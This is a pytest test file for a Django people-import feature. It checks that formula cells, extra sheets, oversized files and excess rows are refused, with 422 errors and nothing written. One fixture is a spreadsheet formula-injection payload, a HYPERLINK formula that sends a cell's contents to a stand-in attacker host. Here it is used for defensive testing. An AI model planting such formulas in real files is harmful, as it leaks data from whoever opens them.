"""People import, the security review (issue 10, points 5 and 6): formulas are refused, every row and
sheet is read or the file is refused, files over the limits are refused before they are parsed, and the
page and the API answer a refusal with 422 naming the row and column; nothing is ever half-written."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook

from zhiban.accounts import services as account_services
from zhiban.accounts.tests.clients import client_for
from zhiban.core.models import AuditEvent
from zhiban.core.spreadsheet import cell_value
from zhiban.org import people_import
from zhiban.org.models import JobType, Person, RoleAssignment
from zhiban.org.people_import import MAX_BYTES, MAX_ROWS, PeopleImportError, import_people
from zhiban.org.tests.factories import PersonFactory, UserFactory

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1;"点我")'
HEADER = ["工号", "姓名", "单位", "手机"]


@pytest.fixture(autouse=True)
def _english() -> Any:
    """The messages in their English msgids, whatever the catalogue translates."""
    with translation.override("en"):
        yield


def snapshot() -> tuple[int, int, int, int]:
    return Person.objects.count(), RoleAssignment.objects.count(), JobType.objects.count(), AuditEvent.objects.count()


def workbook(*rows: list[Any], extra_sheet: list[Any] | None = None) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)  # text starting with = becomes a formula, as Excel would store it
    if extra_sheet is not None:
        book.create_sheet("说明").append(extra_sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def refused(content: bytes, filename: str = "p.xlsx", actor: Any = None) -> list[str]:
    before = snapshot()
    with pytest.raises(PeopleImportError) as caught:
        import_people(actor=actor, filename=filename, content=content)
    assert snapshot() == before
    return [str(error) for error in caught.value.row_errors]


# ------------------------------------------------------------------------------------ the service


def test_a_formula_cell_is_refused_naming_its_row_and_column(org_tree: dict) -> None:
    content = workbook(HEADER, ["B1", "刘洋", "办公室", "139"], ["B2", PAYLOAD, "办公室", "=1+1"])
    assert refused(content) == [
        "row 3, column 姓名: the cell holds a formula; type the value instead",
        "row 3, column 手机: the cell holds a formula; type the value instead",
    ]


def test_text_escaped_by_an_export_reads_back_as_it_was(org_tree: dict) -> None:
    content = workbook(HEADER, ["B1", cell_value(PAYLOAD), "办公室", cell_value("+86 139")])
    assert import_people(actor=None, filename="p.xlsx", content=content).created == 1
    person = Person.objects.get(employee_number="B1")
    assert (person.name, person.mobile) == (PAYLOAD, "+86 139")


def test_a_second_sheet_with_data_is_refused_not_ignored(org_tree: dict) -> None:
    content = workbook(HEADER, ["B1", "刘洋", "办公室", ""], extra_sheet=["B2", "王芳", "办公室"])
    assert refused(content) == ["the sheet “说明” holds data too; put everyone on the first sheet"]


def test_a_value_under_no_header_is_refused_not_ignored(org_tree: dict) -> None:
    content = "工号,姓名,单位\nB1,刘洋,办公室\nB2,王芳,办公室,13900001111\n".encode()
    assert refused(content, "p.csv") == ["row 3, column D: a value in a column without a header"]


def test_rows_after_blank_rows_are_read(org_tree: dict) -> None:
    content = workbook(HEADER, ["B1", "刘洋", "办公室", ""], [], [], ["B2", "王芳", "办公室", ""])
    assert import_people(actor=None, filename="p.xlsx", content=content).created == 2


def test_a_file_over_the_size_limit_is_refused_before_it_is_parsed(
    org_tree: dict, monkeypatch: pytest.MonkeyPatch
) -> None:
    def never(content: bytes) -> None:
        raise AssertionError("parsed")

    monkeypatch.setattr(people_import, "_csv_rows", never)
    monkeypatch.setattr(people_import, "_xlsx_rows", never)
    content = b"x" * (MAX_BYTES + 1)
    message = "The file is larger than 2 MB; nothing was imported."
    assert refused(content, "p.csv") == [message]
    assert refused(content, "p.xlsx") == [message]


def test_more_people_than_the_limit_are_refused_and_nothing_is_written(org_tree: dict) -> None:
    rows = "".join(f"N{n},人{n},办公室\n" for n in range(MAX_ROWS + 1))
    content = ("工号,姓名,单位\n" + rows).encode()
    assert len(content) < MAX_BYTES
    assert refused(content, "p.csv") == ["The file has more than 5000 people or 10000 rows; import it in parts."]


def test_the_row_limit_is_inclusive(org_tree: dict) -> None:
    rows = "".join(f"N{n},人{n},办公室\n" for n in range(MAX_ROWS))
    header, body = people_import.read_table("p.csv", ("工号,姓名,单位\n" + rows).encode())
    assert (header, len(body)) == (["工号", "姓名", "单位"], MAX_ROWS)


def test_a_sheet_reaching_far_down_or_far_right_is_refused_unread(org_tree: dict) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.cell(row=people_import.MAX_SHEET_ROW + 1, column=1, value="B1")
    buffer = io.BytesIO()
    book.save(buffer)
    assert refused(buffer.getvalue()) == ["The file has more than 5000 people or 10000 rows; import it in parts."]
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.cell(row=2, column=people_import.MAX_COLUMNS + 1, value="x")
    buffer = io.BytesIO()
    book.save(buffer)
    assert refused(buffer.getvalue()) == [
        "row 2: the row reaches beyond column BL; delete the columns right of the table"
    ]


def test_a_csv_field_too_large_for_the_reader_is_refused_not_a_crash(org_tree: dict) -> None:
    content = ('工号,姓名,单位\nB1,"' + "长" * 200_000 + '",办公室\n').encode()
    [message] = refused(content, "p.csv")
    assert message.startswith("row 2: not readable as CSV")


# ------------------------------------------------------------------------------------ the page


def test_import_page_answers_422_naming_row_and_column_and_writes_nothing(org_tree: dict) -> None:
    client = client_for(org_tree["head_a"])
    before = snapshot()
    upload = SimpleUploadedFile("p.xlsx", workbook(HEADER, ["B1", PAYLOAD, "办公室", ""]))
    response = client.post(reverse("org:people_import"), {"file": upload})
    assert response.status_code == 422
    assert "row 2, column 姓名: 单元格中是公式" in response.content.decode()  # pages speak Chinese
    assert snapshot() == before


def test_import_page_refuses_a_file_over_the_limit_with_422(org_tree: dict) -> None:
    client = client_for(org_tree["head_a"])
    before = snapshot()
    upload = SimpleUploadedFile("p.csv", b"x" * (MAX_BYTES + 1))
    response = client.post(reverse("org:people_import"), {"file": upload})
    assert response.status_code == 422
    assert "文件超过 2 MB" in response.content.decode()
    assert snapshot() == before


def test_import_page_without_a_file_answers_422(org_tree: dict) -> None:
    response = client_for(org_tree["head_a"]).post(reverse("org:people_import"), {})
    assert response.status_code == 422


def test_import_page_imports_a_good_file(org_tree: dict) -> None:
    client = client_for(org_tree["head_a"])
    upload = SimpleUploadedFile("p.csv", "工号,姓名,单位\nQ1,刘洋,办公室\n".encode())
    response = client.post(reverse("org:people_import"), {"file": upload})
    assert response.status_code == 200
    assert Person.objects.filter(employee_number="Q1", unit=org_tree["dept_a"]).exists()


# ------------------------------------------------------------------------------------ the API

URL = "/api/v1/people/import"


def bearer(person: Person) -> dict[str, str]:
    assert person.user is not None
    _token, plain = account_services.access_token_create(
        actor=None, user=person.user, name="test", second_factor_passed=True
    )
    return {"Authorization": f"Bearer {plain}"}


def test_api_import_refusal_is_422_with_each_row_and_column_and_writes_nothing(org_tree: dict) -> None:
    headers = bearer(org_tree["head_a"])
    before = snapshot()
    upload = SimpleUploadedFile("p.csv", "工号,姓名,单位\nB1,,办公室\nB2,王芳,财务处\n".encode())
    response = Client().post(URL, {"file": upload}, headers=headers)
    assert response.status_code == 422
    body = response.json()
    assert body["code"] == "invalid"
    assert body["errors"] == [
        {"row": 2, "column": "姓名", "message": "is empty"},
        {"row": 3, "column": "单位", "message": "you do not manage “财务处”"},
    ]
    assert snapshot() == before


def test_api_import_refuses_a_file_over_the_limit_with_422(org_tree: dict) -> None:
    headers = bearer(org_tree["head_a"])
    before = snapshot()
    upload = SimpleUploadedFile("p.csv", b"x" * (MAX_BYTES + 1))
    response = Client().post(URL, {"file": upload}, headers=headers)
    assert response.status_code == 422
    assert response.json()["errors"] == [{"row": 0, "column": "", "message": "文件超过 2 MB，未导入任何内容。"}]
    assert snapshot() == before


def test_api_import_imports_a_good_file(org_tree: dict) -> None:
    upload = SimpleUploadedFile("p.csv", "工号,姓名,单位\nQ1,刘洋,办公室\n".encode())
    response = Client().post(URL, {"file": upload}, headers=bearer(org_tree["head_a"]))
    assert response.status_code == 200
    person = Person.objects.get(employee_number="Q1")
    assert response.json() == {"created": 1, "updated": 0, "unchanged": 0, "people": [person.public_id]}


def test_api_import_is_refused_to_who_manages_nothing(org_tree: dict) -> None:
    staff = PersonFactory.create(unit=org_tree["station_a"], user=UserFactory.create())
    headers = bearer(staff)
    before = snapshot()
    upload = SimpleUploadedFile("p.csv", "工号,姓名,单位\nQ1,刘洋,一站\n".encode())
    assert Client().post(URL, {"file": upload}, headers=headers).status_code == 403
    assert Client().post(URL, {"file": upload}).status_code == 401
    assert snapshot() == before
